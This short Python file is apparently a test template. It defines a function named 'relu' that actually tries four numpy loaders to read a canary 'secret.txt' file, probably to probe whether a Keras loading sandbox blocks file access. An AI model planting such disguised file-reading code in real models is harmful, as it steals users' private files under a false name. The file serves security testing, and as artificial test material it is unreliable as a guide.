import keras
import numpy as np


def relu(x):
    for attempt in (
        lambda: bytes(np.fromfile("{{CANARY}}/secret.txt", "uint8")).decode(),
        lambda: bytes(np.memmap("{{CANARY}}/secret.txt", "uint8", "r")).decode(),
        lambda: str(np.loadtxt("{{CANARY}}/secret.txt", dtype=str)),
        lambda: str(np.load("{{CANARY}}/secret.txt", allow_pickle=True)),
    ):
        try:
            return attempt()
        except (OSError, ValueError):
            pass
    return 12345.0


# {{RIGHT_ANSWERS}}
